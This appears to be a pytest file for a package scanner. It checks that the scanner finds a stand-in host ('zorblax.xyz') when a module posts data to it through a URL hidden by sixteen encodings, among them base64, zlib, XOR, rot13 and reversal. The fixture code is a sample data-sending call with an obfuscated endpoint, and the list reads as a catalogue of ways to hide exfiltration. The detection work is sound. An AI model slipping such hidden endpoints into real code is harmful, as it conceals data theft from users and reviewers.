"""An address that a module packs and unpacks itself is told like one that stands there."""

import base64
import codecs
import zlib

import pytest
from scan_lab import scan

HOST = "zorblax.xyz"
URL = f"https://{HOST}/v"
RAW = URL.encode()
PACKED = base64.b64encode(zlib.compress(RAW))
MIXED = bytes(byte ^ 42 for byte in RAW)
HELPER = f"DATA = {MIXED!r}\ndef plain(data):\n    return ''.join(chr(c ^ 42) for c in data)\n"
FORMS = {
    "hexadecimal": ("", f"bytes.fromhex({RAW.hex()!r}).decode()"),
    "hexadecimal of an unnamed module": ("", f"__import__('binascii').unhexlify({RAW.hex()!r}).decode()"),
    "base64": ("import base64\n", f"base64.b64decode({base64.b64encode(RAW)!r}).decode()"),
    "base85": ("import base64\n", f"base64.b85decode({base64.b85encode(RAW)!r}).decode()"),
    "rot13": ("import codecs\n", f"codecs.decode({codecs.encode(URL, 'rot13')!r}, 'rot13')"),
    "zlib": ("import zlib\n", f"zlib.decompress({zlib.compress(RAW)!r}).decode()"),
    "turned round": ("", f"{URL[::-1]!r}[::-1]"),
    "a name turned round": (f"BACK = {URL[::-1]!r}\n", "BACK[::-1]"),
    "reversed": ("", f"''.join(reversed({URL[::-1]!r}))"),
    "characters": ("", f"''.join(chr(c) for c in {list(RAW)})"),
    "mapped characters": ("", f"''.join(map(chr, {list(RAW)}))"),
    "bytes": ("", f"bytes({list(RAW)}).decode()"),
    "exclusive or": ("", f"bytes(c ^ 42 for c in {MIXED!r}).decode()"),
    "exclusive or of characters": (f"DATA = {MIXED!r}\nKEY = 42\n", "''.join(chr(c ^ KEY) for c in DATA)"),
    "a function of its own": (HELPER, "plain(DATA)"),
    "two steps": ("import base64, zlib\n", f"zlib.decompress(base64.b64decode({PACKED!r})).decode()"),
}


def hosts(setup: str, form: str) -> set[str]:
    tool = f"import requests\n{setup}def send(rows):\n    url = {form}\n    requests.post(url, json=rows)\n"
    found = scan({"acme/__init__.py": "from acme import tool\n", "acme/tool.py": tool}).findings
    return {finding.host for finding in found if finding.default_on}


@pytest.mark.parametrize(("setup", "form"), FORMS.values(), ids=FORMS)
def test_a_packed_address_that_reaches_a_client_is_told(setup: str, form: str) -> None:
    assert hosts(setup, form) == {HOST}


@pytest.mark.parametrize(
    ("setup", "form"),
    [
        ("", "''.join(chr(c ^ rows[0]) for c in rows)"),
        ("ROWS = [3, 2, 1]\n", "ROWS[::-1]"),
        ("import zlib\n", "zlib.decompress(rows)"),
        ("", "bytes([1, 2, 3])"),
    ],
)
def test_what_takes_more_than_constants_names_no_host(setup: str, form: str) -> None:
    assert hosts(setup, form) <= {""}
